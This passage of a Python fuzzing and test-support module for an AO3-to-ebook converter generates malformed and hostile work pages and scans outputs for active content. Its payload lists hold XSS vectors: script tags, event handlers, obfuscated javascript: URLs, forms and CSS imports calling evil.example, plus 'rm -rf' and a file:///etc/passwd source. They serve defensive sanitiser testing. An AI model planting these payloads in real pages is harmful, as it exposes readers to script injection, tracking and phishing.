"""Hostile inputs and output scanners, shared by the robustness tests and ``tools/fuzz.py``.

Three parts:

- **Mutators** turn a real AO3 page (``tests/fixtures/pages``) into a broken one:
  truncated, spliced, tags dropped or duplicated, bytes flipped, nested 10,000 deep,
  huge attributes and text nodes, NULs and control characters, lone surrogates in
  character references, wrong/missing/conflicting charsets, UTF-16/32 with a BOM,
  cp1252 labelled as UTF-8, hostile markup, broken numbers and dates. Each is a
  function ``(rng, page, other_page) -> bytes``; :func:`mutate` applies one or more.
- **Hostile pages**: :func:`hostile_page` splices a payload (scripts, event handlers,
  ``javascript:`` links, SVG, MathML, iframes, forms, remote resources...) into every
  region a stranger controls on a real work page: title, creators, summary, notes,
  text, end notes, tags, series title and work skin.
- **Scanners** say what is active or remote in an output: :func:`epub_problems`,
  :func:`markdown_problems`, :func:`text_problems`. Each returns a list of findings
  (empty: clean), so a failing test shows all of them at once.

:func:`exercise_writers` renders a parsed work with every writer and option that
matters; only :class:`ao3conv.errors.Ao3convError` may come out of parsing, nothing
out of writing.
"""

# ruff: noqa: E501, SIM905 - page templates are HTML as AO3 writes it; word lists read better split
from __future__ import annotations

import codecs
import io
import random
import re
import zipfile
from collections.abc import Callable, Iterable, Iterator
from typing import Any

from helpers.pages import page_paths

Mutator = Callable[[random.Random, bytes, bytes], bytes]


def corpus() -> list[tuple[str, bytes]]:
    """Every real page of the corpus, as ``(name, bytes)``, sorted by name."""
    return [(p.name, p.read_bytes()) for p in page_paths()]


# --- mutators ------------------------------------------------------------------------------

_TAG = re.compile(rb"<[^<>]{0,400}>")
_USERSTUFF = re.compile(rb'<(?:div|blockquote) class="userstuff[^"]*"[^>]*>')
_NUMBER = re.compile(rb"(<dd class=\"(?:words|chapters|kudos|hits|comments|bookmarks|"
                     rb"published|status)\"[^>]*>)([^<]*)")
_CHARSET = re.compile(rb"<meta[^>]*charset[^>]*>", re.I)

SOUP = [
    b"<p>", b"</p>", b"<em>", b"</em>", b"</div>", b"<div>", b"<ul>", b"<li>", b"</ul>",
    b"<table><tr><td>", b"</td></tr></table>", b"<tr>", b"<td>", b"<th>", b"<br>", b"<br/>",
    b"<pre>", b"</pre>", b"<hr>", b"<blockquote>", b"</blockquote>", b"<ol start=3>",
    b"<h2 class=\"title heading\">", b"<dd class=\"words\">", b"<div id=\"chapters\">",
    b"<div class=\"userstuff\">", b"<a href=\"#work_endnotes\">", b"</a>", b"<img src=x>",
    b"<q>", b"<ruby>", b"<rt>", b"<details><summary>", b"<center>", b"<font face=x>",
    b"<select><option>", b"<textarea>", b"<xmp>", b"<plaintext>", b"<noscript>", b"<template>",
    b"<![CDATA[", b"]]>", b"<!--", b"-->", b"<!DOCTYPE html>", b"<?xml version='1.0'?>",
    b"<html>", b"</html>", b"<body>", b"</body>", b"<head>", b"<frameset>", b"&", b"&amp",
    b"&#", b"&#x", b"<", b">", b"\"", b"'", b"=", b"<a", b"<p class=", b"</", b"/>",
]
ENTITIES = [
    b"&#0;", b"&#x0;", b"&#xD800;", b"&#xDFFF;", b"&#55296;", b"&#57343;", b"&#xD83D;&#xDE00;",
    b"&#x110000;", b"&#99999999999;", b"&#x7FFFFFFF;", b"&#xFFFE;", b"&#xFFFF;", b"&#x1B;",
    b"&#x80;", b"&#x9F;", b"&#x7F;", b"&#xFEFF;", b"&#x202E;", b"&#x2028;", b"&#x;", b"&#;",
    b"&#xD800", b"&nosuchentity;", b"&amp;#xD800;", b"&colon;", b"&Tab;", b"&NewLine;",
]
CONTROLS = [bytes([c]) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F)] + [
    "\u0085".encode(), "\u2028".encode(), "\u202e".encode(), "\ufeff".encode(),
    "\ufffe".encode(), "\uffff".encode(), b"\xed\xa0\x80",  # a surrogate in CESU-8 bytes
    b"\xc0\x80", b"\xf4\x90\x80\x80", b"\xff", b"\xfe", b"\x80",
]
CHARSET_LABELS = [
    b"utf-8", b"UTF-16", b"utf-16le", b"utf-32", b"shift_jis", b"euc-jp", b"iso-2022-jp",
    b"gb18030", b"big5", b"koi8-r", b"windows-1251", b"iso-8859-8-i", b"x-user-defined",
    b"utf-7", b"bogus-charset", b"", b"ascii", b"latin1", b"x" * 300, b"cp1252\x00",
]
TAGS_TO_NEST = [b"div", b"blockquote", b"em", b"span", b"p", b"ul><li", b"ol><li", b"table><tr><td",
                b"a href=\"/x\"", b"sup", b"font", b"center", b"details", b"figure", b"dl><dd",
                b"pre", b"h2", b"q", b"s", b"small", b"unknowntag"]


def _at(rng: random.Random, data: bytes) -> int:
    return rng.randrange(len(data) + 1)


def _in_userstuff(rng: random.Random, data: bytes) -> int:
    """Somewhere inside a work's text when the page has one, else anywhere."""
    found = list(_USERSTUFF.finditer(data))
    return rng.choice(found).end() if found else _at(rng, data)


def truncate(rng: random.Random, data: bytes, other: bytes) -> bytes:
    return data[: _at(rng, data)]


def splice(rng: random.Random, data: bytes, other: bytes) -> bytes:
    return data[: _at(rng, data)] + other[_at(rng, other):]


def drop_tags(rng: random.Random, data: bytes, other: bytes) -> bytes:
    tags = list(_TAG.finditer(data))
    if not tags:
        return data
    doomed = {id(m) for m in rng.sample(tags, min(len(tags), rng.randint(1, 40)))}
    out, last = [], 0
    for match in tags:
        if id(match) in doomed:
            out.append(data[last : match.start()])
            last = match.end()
    out.append(data[last:])
    return b"".join(out)


def duplicate_tags(rng: random.Random, data: bytes, other: bytes) -> bytes:
    tags = list(_TAG.finditer(data))
    buf = bytearray(data)
    for match in sorted(rng.sample(tags, min(len(tags), rng.randint(1, 40))),
                        key=lambda m: -m.start()):
        buf[match.start() : match.start()] = match.group() * rng.randint(1, 5)
    return bytes(buf)


def move_region(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """Cut a slice and paste it elsewhere (closing tags before opening ones...)."""
    a, b = sorted((_at(rng, data), _at(rng, data)))
    piece, rest = data[a:b][:20_000], data[:a] + data[b:]
    at = _at(rng, rest)
    return rest[:at] + piece + rest[at:]


def flip_bytes(rng: random.Random, data: bytes, other: bytes) -> bytes:
    buf = bytearray(data)
    for _ in range(rng.randint(1, 60)):
        if buf:
            buf[rng.randrange(len(buf))] = rng.randrange(256)
    return bytes(buf)


def insert_soup(rng: random.Random, data: bytes, other: bytes) -> bytes:
    buf = bytearray(data)
    for _ in range(rng.randint(1, 40)):
        at = _at(rng, buf) if rng.random() < 0.5 else _in_userstuff(rng, bytes(buf))
        buf[at:at] = rng.choice(SOUP) * (rng.randint(1, 300) if rng.random() < 0.1 else 1)
    return bytes(buf)


def deep_nest(rng: random.Random, data: bytes, other: bytes, depth: int = 10_000) -> bytes:
    """One element nested ``depth`` levels deep inside the text, closed or not."""
    tag = rng.choice(TAGS_TO_NEST)
    opening = b"".join(b"<" + part + b">" for part in tag.split(b"><"))
    closing = b"".join(b"</" + part.split(b" ")[0] + b">" for part in reversed(tag.split(b"><")))
    at = _in_userstuff(rng, data)
    tail = closing * depth if rng.random() < 0.7 else b""
    return data[:at] + opening * depth + b"deep words" + tail + data[at:]


def huge_attribute(rng: random.Random, data: bytes, other: bytes) -> bytes:
    size = rng.choice((100_000, 1_000_000, 3_000_000))
    name = rng.choice((b"title", b"class", b"href", b"lang", b"dir", b"src", b"alt", b"style",
                       b"data-x", b"colspan", b"start", b"id"))
    value = rng.choice((b"a", b"x ", b"&#xD800;", b"1", b"\xe2\x80\xae", b"\"")) * (size // 8)
    element = rng.choice((b"p", b"a", b"img", b"span", b"td", b"ol", b"div", b"h2"))
    snippet = b"<" + element + b" " + name + b"='" + value + b"'>words</" + element + b">"
    at = _in_userstuff(rng, data)
    return data[:at] + snippet + data[at:]


def huge_text(rng: random.Random, data: bytes, other: bytes) -> bytes:
    size = rng.choice((200_000, 2_000_000, 6_000_000))
    piece = rng.choice((b"word ", b"x", b" ", b"\n", b"&nbsp;", "\u00e9\u4e2d ".encode(),
                        b"<br>", b"*_`[", b"---\n", b"&#xD800;"))
    at = _in_userstuff(rng, data)
    return data[:at] + piece * (size // len(piece)) + data[at:]


def many_elements(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """Tens of thousands of siblings: paragraphs, breaks, cells, list items, links."""
    piece = rng.choice((b"<p>a</p>", b"<br>", b"<td>c", b"<li>i", b"<a href='/w'>l</a>",
                        b"<em>e</em> ", b"<p>&nbsp;</p>", b"<hr>", b"<p>* * *</p>",
                        b"<img src='/i.png'>", b"<p class='a b c d e f'>x</p>"))
    at = _in_userstuff(rng, data)
    return data[:at] + piece * rng.choice((5_000, 30_000)) + data[at:]


def control_characters(rng: random.Random, data: bytes, other: bytes) -> bytes:
    buf = bytearray(data)
    for _ in range(rng.randint(1, 80)):
        at = _at(rng, buf) if rng.random() < 0.5 else _in_userstuff(rng, bytes(buf))
        buf[at:at] = rng.choice(CONTROLS)
    return bytes(buf)


def bad_references(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """Lone surrogates and other impossible characters as references, in text and attributes."""
    buf = bytearray(data)
    for _ in range(rng.randint(1, 40)):
        ref = rng.choice(ENTITIES)
        if rng.random() < 0.4:
            ref = (b"<a href='/w" + ref + b"' title='" + ref + b"' lang='en" + ref + b"' class='c"
                   + ref + b"'>" + ref + b"</a>")
        at = _in_userstuff(rng, bytes(buf)) if rng.random() < 0.7 else _at(rng, buf)
        buf[at:at] = ref
    return bytes(buf)


def wrong_charset(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """A wrong, missing or conflicting charset label (the bytes stay UTF-8)."""
    label = rng.choice(CHARSET_LABELS)
    meta = b'<meta charset="' + label + b'">'
    choice = rng.randrange(4)
    if choice == 0:  # missing
        return _CHARSET.sub(b"", data)
    if choice == 1:  # wrong
        return _CHARSET.sub(meta, data) if _CHARSET.search(data) else meta + data
    if choice == 2:  # conflicting: two labels
        other_meta = b'<meta http-equiv="Content-Type" content="text/html; charset=' + rng.choice(
            CHARSET_LABELS) + b'">'
        return meta + other_meta + data
    return b'<?xml version="1.0" encoding="' + label + b'"?>' + data


def reencode(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """The page in another encoding: UTF-16/32 with a BOM (or without), cp1252 labelled as
    UTF-8, UTF-8 with a BOM, or Latin-1 with its label."""
    text = data.decode("utf-8", "replace")
    choice = rng.randrange(7)
    if choice == 0:
        return codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    if choice == 1:
        return codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    if choice == 2:
        return codecs.BOM_UTF32_LE + text.encode("utf-32-le")
    if choice == 3:
        return text.encode("utf-16-le")  # no BOM: garbage to a UTF-8 reader
    if choice == 4:  # what a Windows editor saves, with the UTF-8 label left in place
        return (text + "\u201csmart quotes\u201d \u2014 caf\u00e9").encode("cp1252", "replace")
    if choice == 5:
        return codecs.BOM_UTF8 + data
    return _CHARSET.sub(b'<meta charset="iso-8859-1">', text.encode("latin-1", "replace"))


def broken_numbers(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """Stats and dates that are not numbers or dates: AO3 never, a hostile page always."""
    values = [b"", b"-1", b"0", b"1/0", b"0/0", b"5/?", b"?/?", b"9" * 40, b"1,2,3,,4", b"1e9",
              b"2020-02-30", b"9999-99-99", b"0000-00-00", b"\xd9\xa3", b"\xef\xbc\x93", b"1 000",
              b"NaN", b"inf", b"12/-3", b"99999999999999999999/1", b"&#xD800;", b"1.5"]
    return _NUMBER.sub(lambda m: m.group(1) + rng.choice(values), data)


HOSTILE_MARKUP = [
    b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>",
    b"<svg onload=alert(1)><script>alert(2)</script><a xlink:href='javascript:alert(3)'>s</a></svg>",
    b"<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>m</maction></math>",
    b"<iframe src='https://evil.example/'></iframe>", b"<object data='evil.swf'></object>",
    b"<embed src='evil.swf'>", b"<form action='https://evil.example'><input name=p></form>",
    b"<a href='javascript:alert(1)'>j</a>", b"<a href='java\tscript:alert(1)'>t</a>",
    b"<a href='vbscript:msgbox'>v</a>", b"<a href='data:text/html,<script>alert(1)</script>'>d</a>",
    b"<p style='background:url(https://evil.example/t.png)'>s</p>",
    b"<link rel=stylesheet href='https://evil.example/x.css'>", b"<base href='https://evil/'>",
    b"<meta http-equiv=refresh content='0;url=https://evil.example'>",
    b"<video src='https://evil.example/v.mp4' poster='https://evil.example/p.png'>v</video>",
    b"<style>@import 'https://evil.example/x.css'; p{behavior:url(x.htc)}</style>",
]


def insert_hostile(rng: random.Random, data: bytes, other: bytes) -> bytes:
    buf = bytearray(data)
    for _ in range(rng.randint(1, 10)):
        at = _in_userstuff(rng, bytes(buf)) if rng.random() < 0.7 else _at(rng, buf)
        buf[at:at] = rng.choice(HOSTILE_MARKUP)
    return bytes(buf)


def mangle_attributes(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """Duplicate, unquoted, empty and absurd attribute values on real tags."""
    odd = [b" colspan=-5", b" rowspan=99999999999", b" colspan='abc'", b" start=-3",
           b" start=99999999999999999999", b" lang='\xff\xfe'", b" lang='en_US@x'",
           b" dir=sideways", b" align=middle", b" class", b" class='' class='x'",
           b" href", b" href=''", b" src=''", b" width='1e9'", b" height=-1", b" id=chapters",
           b" class=\"userstuff\"", b" class=\"chapter\"", b" role=article", b" lang"]
    buf = bytearray(data)
    tags = [m for m in _TAG.finditer(data) if not m.group().startswith((b"</", b"<!"))]
    for match in sorted(rng.sample(tags, min(len(tags), rng.randint(1, 60))),
                        key=lambda m: -m.start()):
        at = match.end() - 1 - (1 if match.group().endswith(b"/>") else 0)
        buf[at:at] = rng.choice(odd)
    return bytes(buf)


_DIGIT_RUN = re.compile(rb"\d+")
_HREF = re.compile(rb"""(href|src)=(["'])([^"']*)\2""")
_TITLE_HEADING = re.compile(rb'(<h2 class="title heading"[^>]*>)(.*?)(</h2>)', re.S)
_LANG_ATTR = re.compile(rb"""lang=(["'])[^"']*\1""")


def huge_numbers(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """Numbers past Python's 4,300-digit int limit (and past AO3's 18) in ids, stats,
    chapter and series numbers, dates, wherever digits already are."""
    runs = list(_DIGIT_RUN.finditer(data))
    if not runs:
        return data
    buf = bytearray(data)
    for match in sorted(rng.sample(runs, min(len(runs), rng.randint(1, 40))),
                        key=lambda m: -m.start()):
        buf[match.end():match.end()] = b"9" * rng.choice((17, 19, 4_300, 5_000))
    return bytes(buf)


BRACKET_URLS = [b"http://[", b"https://[::1", b"//[x/", b"http://[::1]:99999/", b"http://]x[/",
                b"[", b"/series/[1]", b"/users/[a]/pseuds/b", b"http://a:b@[/", b"https://[v1.x]/"]


def bracket_links(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """Links urllib cannot split ("Invalid IPv6 URL"): brackets before, in or as the host."""
    def change(match: re.Match[bytes]) -> bytes:
        if rng.random() < 0.5:
            return match.group()
        url = rng.choice(BRACKET_URLS)
        value = url + match.group(3) if rng.random() < 0.5 else match.group(3) + url
        return match.group(1) + b"=" + match.group(2) + value + match.group(2)
    return _HREF.sub(change, data)


ODD_CHARSETS = [b"undefined", b"rot13", b"rot-13", b"base64", b"hex", b"zlib", b"bz2", b"uu",
                b"quopri", b"idna", b"punycode", b"unicode_escape", b"raw_unicode_escape",
                b"utf-8-sig", b"mbcs", b"x-user-defined", b"utf-7", b"cp65001", b"replacement",
                b"unicode-1-1-utf-7", b"oem", b"charmap", b"string_escape", b"utf_16_be"]


def odd_charsets(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """A charset label that names a codec but no text encoding, with a byte that is not
    UTF-8 somewhere (so the label is consulted)."""
    meta = b'<meta charset="' + rng.choice(ODD_CHARSETS) + b'">'
    data = _CHARSET.sub(meta, data) if _CHARSET.search(data) else meta + data
    at = _in_userstuff(rng, data)
    return data[:at] + rng.choice((b"\xe9", b"\xff", b"\x80\x81", b"\xc3")) + data[at:]


ODD_LANGUAGES = [b"i", b"en-12", b"x", b"12", b"en_US", b"-", b"en-", b"-en", b"en--us", b"q" * 9,
                 b"de-1901-1901", b"en-a-x-a", b"zh-Hant-TW-", b"i-klingon", b"en-GB-oxendict",
                 b"a-b-c-d-e-f-g", b"\xc3\xa9n", b"en US", b"", b"und", b"x-" + b"a" * 300]


def odd_languages(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """Language codes that are no well-formed BCP 47 tag, on the work and in the text."""
    data = _LANG_ATTR.sub(lambda m: b"lang=" + m.group(1) + rng.choice(ODD_LANGUAGES)
                          + m.group(1), data)
    at = _in_userstuff(rng, data)
    return data[:at] + b"<p lang='" + rng.choice(ODD_LANGUAGES) + b"'>l</p>" + data[at:]


def long_titles(rng: random.Random, data: bytes, other: bytes) -> bytes:
    """An unbroken title of AO3's 255 characters or far more (names, covers, headings)."""
    word = rng.choice((b"a", b"W", "\u4e2d".encode(), "\u0645".encode(), b"e\xcc\x81", b"-"))
    title = word * rng.choice((255, 400, 2_000, 10_000))
    if _TITLE_HEADING.search(data):
        return _TITLE_HEADING.sub(lambda m: m.group(1) + title + m.group(3), data, count=1)
    return b'<h2 class="title heading">' + title + b"</h2>" + data


MUTATORS: dict[str, Mutator] = {
    "truncate": truncate,
    "splice": splice,
    "drop_tags": drop_tags,
    "duplicate_tags": duplicate_tags,
    "move_region": move_region,
    "flip_bytes": flip_bytes,
    "insert_soup": insert_soup,
    "deep_nest": deep_nest,
    "huge_attribute": huge_attribute,
    "huge_text": huge_text,
    "many_elements": many_elements,
    "control_characters": control_characters,
    "bad_references": bad_references,
    "wrong_charset": wrong_charset,
    "reencode": reencode,
    "broken_numbers": broken_numbers,
    "insert_hostile": insert_hostile,
    "mangle_attributes": mangle_attributes,
    "huge_numbers": huge_numbers,
    "bracket_links": bracket_links,
    "odd_charsets": odd_charsets,
    "odd_languages": odd_languages,
    "long_titles": long_titles,
}
# The expensive ones (megabytes, 10,000 levels) are drawn less often.
_WEIGHTS = {"deep_nest": 0.3, "huge_attribute": 0.2, "huge_text": 0.2, "many_elements": 0.3,
            "huge_numbers": 0.5}


def mutate(rng: random.Random, data: bytes, other: bytes) -> tuple[bytes, list[str]]:
    """One to three mutations of ``data``; returns the page and the mutators' names."""
    names = list(MUTATORS)
    weights = [_WEIGHTS.get(name, 1.0) for name in names]
    chosen = rng.choices(names, weights, k=rng.choice((1, 1, 1, 2, 3)))
    for name in chosen:
        data = MUTATORS[name](rng, data, other)
    return data, chosen


# --- generated pages ---------------------------------------------------------------------------

GEN_TAGS = (
    "p p p em strong i b u s strike del ins sup sub code pre blockquote div span span a a img br "
    "hr ul ol li dl dt dd table tr td th thead tbody caption h1 h2 h3 h4 h5 h6 center font small "
    "big abbr cite q details summary figure figcaption ruby rt kbd tt mark wbr audio video source "
    "iframe script style svg math noscript template textarea select option x-unknown blink"
).split()
GEN_ATTRS: dict[str, tuple[str, ...]] = {
    "class": ("", "userstuff", "chapter", "title heading", "align-center", "x y z", "-bad",
              "skin_class", "1st", "preface group", "end notes module", "c\u00e9"),
    "lang": ("en", "ar", "he", "zh-Hant", "", "x", "not a language", "en_US", "en-", "i-klingon"),
    "dir": ("ltr", "rtl", "auto", "sideways", ""),
    "align": ("left", "right", "center", "justify", "middle", ""),
    "href": ("/works/1", "#work_endnotes", "#fn1", "https://example.org/a b", "mailto:a@b.c",
             "javascript:alert(1)", " data:text/html,x", "//evil.example/x", "http://[::1", "",
             "ftp://example.org/", "vbscript:x", "http://user:pw@example.org/", "\u00e9/\u00e9"),
    "src": ("/images/a.png", "https://example.org/i.jpg", "data:image/png;base64,iVBORw0KGgo=",
            "javascript:x", "", "x.gif", "file:///etc/passwd", "data:text/html,<script>"),
    "title": ("t", "\"quoted\"", "<b>", ""),
    "colspan": ("2", "0", "-1", "99999", "x"), "rowspan": ("3", "0", "1000000"),
    "start": ("5", "-2", "0", "99999999999"), "style": ("color: red", "background:url(x)"),
    "onclick": ("alert(1)",), "id": ("chapters", "workskin", "work_endnotes", "x"),
    "width": ("100", "-5", "1e9"), "alt": ("alt text", ""), "name": ("fn1",),
}
GEN_TEXT = (
    "word ", "Words, words. ", "\u00a0", " ", "  ", "\n", "\t", "&amp;", "&lt;b&gt;", "&nbsp;",
    "&#xD800;", "&#0;", "&#x1F600;", "\u00e9", "\u4e2d\u6587", "\u05e9\u05dc\u05d5\u05dd",
    "\u0645\u0631\u062d\u0628\u0627", "\U0001f600", "e\u0301", "*", "_", "`", "[", "]", "#",
    "> ", "- ", "1. ", "---", "* * *", "~~~", "|", "\\", "<", ">", "\"", "'", "\u202e",
    "\u200b", "\x00", "\x1b[31m", "\r", "\ufeff", "https://example.org", "{{x}}", "key: v",
)


def random_fragment(rng: random.Random, budget: int = 40, depth: int = 0) -> str:
    """Random HTML: real and unknown tags, odd attributes, hostile text, often unclosed."""
    out = []
    while budget > 0:
        budget -= 1
        if depth > 12 or rng.random() < 0.45:
            out.append(rng.choice(GEN_TEXT))
            continue
        tag = rng.choice(GEN_TAGS)
        attrs = "".join(
            f' {name}="{rng.choice(GEN_ATTRS[name])}"'
            for name in rng.sample(list(GEN_ATTRS), rng.choice((0, 0, 1, 2)))
        )
        inner_budget = rng.randint(0, budget)
        budget -= inner_budget
        inner = random_fragment(rng, inner_budget, depth + 1)
        closing = f"</{tag}>" if rng.random() < 0.9 else ""
        out.append(f"<{tag}{attrs}>{inner}{closing}")
    return "".join(out)


def _tag_list(values: list[str]) -> str:
    return "".join(f'<li><a class="tag" href="/tags/t">{v}</a></li>' for v in values)


def work_page_html(
    *, title: str, creator: str, summary: str, notes: str, end_notes: str,
    chapters: list[tuple[str, str]], tags: list[str], fandoms: list[str], rating: str,
    language: str, lang: str, series: tuple[str, str, str], published: str,
    numbers: tuple[str, str, str],
) -> bytes:
    """An AO3 work page in AO3's markup (``ao3-structure.md``) from raw HTML pieces:
    one ``div.userstuff`` for a single chapter, ``div.chapter`` blocks for several."""
    if len(chapters) == 1:
        body = f'<div class="userstuff">{chapters[0][1]}</div>'
    else:
        body = "".join(
            f'<div class="chapter" id="chapter-{i}"><div class="chapter preface group">'
            f'<h3 class="title"><a href="/works/1/chapters/{i}">Chapter {i}</a>: {heading}</h3>'
            f'</div><div class="userstuff module" role="article"><h3 class="landmark heading" '
            f'id="work">Chapter Text</h3>{text}</div></div>'
            for i, (heading, text) in enumerate(chapters, 1)
        )
    position, series_id, series_title = series
    words, chapter_count, kudos = numbers
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title></head>
<body><div id="main" class="works-show region" role="main"><div class="wrapper">
<dl class="work meta group">
<dt class="rating tags">Rating:</dt><dd class="rating tags"><ul class="commas">{_tag_list([rating])}</ul></dd>
<dt class="fandom tags">Fandom:</dt><dd class="fandom tags"><ul class="commas">{_tag_list(fandoms)}</ul></dd>
<dt class="freeform tags">Additional Tags:</dt><dd class="freeform tags"><ul class="commas">{_tag_list(tags)}</ul></dd>
<dt class="language">Language:</dt><dd class="language" lang="{lang}">{language}</dd>
<dt class="series">Series:</dt><dd class="series"><span class="series"><span class="position">Part {position} of <a href="/series/{series_id}">{series_title}</a></span></span></dd>
<dt class="stats">Stats:</dt><dd class="stats"><dl class="stats"><dt class="published">Published:</dt><dd class="published">{published}</dd><dt class="words">Words:</dt><dd class="words">{words}</dd><dt class="chapters">Chapters:</dt><dd class="chapters">{chapter_count}</dd><dt class="kudos">Kudos:</dt><dd class="kudos">{kudos}</dd></dl></dd>
</dl></div>
<div id="workskin"><div class="preface group"><h2 class="title heading">{title}</h2>
<h3 class="byline heading"><a rel="author" href="/users/u/pseuds/u">{creator}</a></h3>
<div class="summary module"><h3 class="heading">Summary:</h3><blockquote class="userstuff">{summary}</blockquote></div>
<div class="notes module"><h3 class="heading">Notes:</h3><blockquote class="userstuff">{notes}</blockquote></div></div>
<div id="chapters" role="article">{body}</div>
<div class="afterword preface group"><div id="work_endnotes" class="end notes module"><h3 class="heading">Notes:</h3><blockquote class="userstuff">{end_notes}</blockquote></div></div>
</div></div></body></html>"""
    return page.encode("utf-8", "surrogatepass")


def random_page(rng: random.Random) -> bytes:
    """An AO3-shaped work page (one chapter or several) with random metadata and content."""
    def text(n: int = 4) -> str:
        return "".join(rng.choice(GEN_TEXT) for _ in range(rng.randint(0, n)))

    def number() -> str:
        return rng.choice(("1", "1,234", "0", "", "-3", "12/?", "3/3", "99999999999999999999",
                           "x", text(2)))

    return work_page_html(
        title=text(), creator=text(), summary=random_fragment(rng, 8),
        notes=random_fragment(rng, 8), end_notes=random_fragment(rng, 6),
        chapters=[(text(), random_fragment(rng)) for _ in range(rng.choice((1, 1, 2, 3)))],
        tags=[text() for _ in range(rng.randint(0, 4))], fandoms=[text(), text()],
        rating=text(), language=text(2), lang=rng.choice(GEN_ATTRS["lang"]),
        series=(number(), number(), text()),
        published=rng.choice(("2020-01-02", "2020-02-30", "", "x")),
        numbers=(number(), number(), number()),
    )


# --- hostile pages ----------------------------------------------------------------------------

# What a stranger may type where AO3 lets them: inert text that looks like markup and
# syntax of every output format, and active markup the parser must neutralise.
HOSTILE_TEXT = (
    "<script>alert('t')</script> \"><img src=x onerror=alert(1)> javascript:alert(1) "
    "[click](javascript:alert(1)) ![i](https://evil.example/t.png) <!-- --> ]]> "
    "{{7*7}} ${x} `rm -rf` *a* _b_ ---\nkey: injected\n--- &lt;b&gt; &#x3C;iframe&#x3E;"
)
HOSTILE_HTML = (
    "<script>alert(1)</script><img src=x onerror=alert(1)><p onclick='alert(1)'>click</p>"
    "<a href='javascript:alert(1)'>js</a><a href=' JaVaScRiPt:alert(1)'>js2</a>"
    "<a href='java&#x09;script:alert(1)'>js3</a><a href='vbscript:msgbox(1)'>vb</a>"
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>data</a>"
    "<a href='javascript&colon;alert(1)'>colon</a><a href='&#106;avascript:alert(1)'>ref</a>"
    "<iframe src='https://evil.example/frame'></iframe><object data='https://evil.example/o'>"
    "obj</object><embed src='https://evil.example/e'><form action='https://evil.example/f'>"
    "<input name='password'><button>go</button><select><option>o</option></select>"
    "<textarea>t</textarea></form>"
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script>"
    "<a xlink:href='javascript:alert(3)'><text>svg text</text></a>"
    "<image href='https://evil.example/svg.png'/><foreignObject><iframe src='x'></iframe>"
    "</foreignObject></svg>"
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>math</maction>"
    "<mtext href='javascript:alert(1)'>mtext</mtext></math>"
    "<p style='background:url(https://evil.example/bg.png)'>styled</p>"
    "<span style='behavior:url(x.htc);-moz-binding:url(x.xml#x)'>behaviour</span>"
    "<link rel='stylesheet' href='https://evil.example/x.css'><base href='https://evil.example/'>"
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>"
    "<video src='https://evil.example/v.mp4' poster='https://evil.example/p.png'>video</video>"
    "<audio src='https://evil.example/a.mp3' autoplay>audio</audio>"
    "<img src='https://evil.example/pixel.gif' alt='pixel'>"
    "<img srcset='https://evil.example/1.png 1x' src='data:text/html,x' alt='srcset'>"
    "<div onmouseover='alert(1)' class='x\" onload=\"alert(1)' lang='en\" onfocus=\"alert(1)'>"
    "div</div><p>---<br>title: injected<br>---</p><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
)
HOSTILE_SKIN = (
    "@import url('https://evil.example/import.css'); @import 'https://evil.example/i2.css';\n"
    "@font-face { font-family: x; src: url(https://evil.example/font.woff); }\n"
    "@namespace svg url(http://www.w3.org/2000/svg);\n"
    "#workskin .a { background: url(https://evil.example/bg.png); color: red; }\n"
    "#workskin .b { background-image: URL( 'https://evil.example/bg2.png' ); }\n"
    "#workskin .c { width: expression(alert(1)); behavior: url(x.htc); }\n"
    "#workskin .d { -moz-binding: url('x.xml#xss'); }\n"
    "#workskin .e { background: \\75 rl(https://evil.example/esc.png); }\n"
    "#workskin .f { background: image-set('https://evil.example/set.png' 1x); }\n"
    "#workskin .g { list-style: url(https://evil.example/l.png); cursor: url(c.cur), auto; }\n"
    "#workskin .h { content: 'javascript:alert(1)'; color: blue; }\n"
    "#workskin .i { background: -webkit-image-set(url(https://evil.example/w.png) 1x); }\n"
    "#workskin .j { position: fixed; top: 0; } </style><script>alert(1)</script><style>\n"
    "@media screen { #workskin .k { background: url(https://evil.example/m.png); } }\n"
    "@supports (display: grid) { #workskin .l { background: url(//evil.example/s.png); } }\n"
    "#workskin .m { mask: url(#m); filter: url(https://evil.example/f.svg#f); }\n"
    "#workskin .n { src: local(x); } body { background: url(https://evil.example/b.png) }\n"
)

_NEAR = rb"(?:(?!</div>).){0,3000}?"  # within the same module (no </div> on the way)
_INSERTIONS: dict[str, tuple[re.Pattern[bytes], str]] = {
    "title": (re.compile(rb'<h2 class="title heading">|<div class="meta">' + _NEAR + rb"<h1>",
                         re.S), "text"),
    "creator": (re.compile(rb'<a rel="author" href="[^"]*">'), "text"),
    "summary": (re.compile(rb'<div class="summary module">' + _NEAR + rb'<blockquote class="userstuff">'
                           rb'|<p>Summary</p>\s*<blockquote class="userstuff">', re.S), "html"),
    "notes": (re.compile(rb'<div class="notes module">' + _NEAR + rb'<blockquote class="userstuff">'
                         rb'|<p>Notes</p>\s*<blockquote class="userstuff">', re.S), "html"),
    "text": (re.compile(rb'<div class="userstuff module" role="article">\s*<h3[^>]*>[^<]*</h3>'
                        rb'|<div class="userstuff">'), "html"),
    "end notes": (re.compile(rb'<div [^>]*class="end notes module"[^>]*>' + _NEAR
                             + rb'<blockquote class="userstuff">', re.S), "html"),
    "tag": (re.compile(rb'<dd class="freeform tags">\s*<ul class="commas">\s*<li>'
                       rb'<a class="tag" href="[^"]*">|<dt>Additional Tags:</dt>\s*<dd><a href="[^"]*">'),
            "text"),
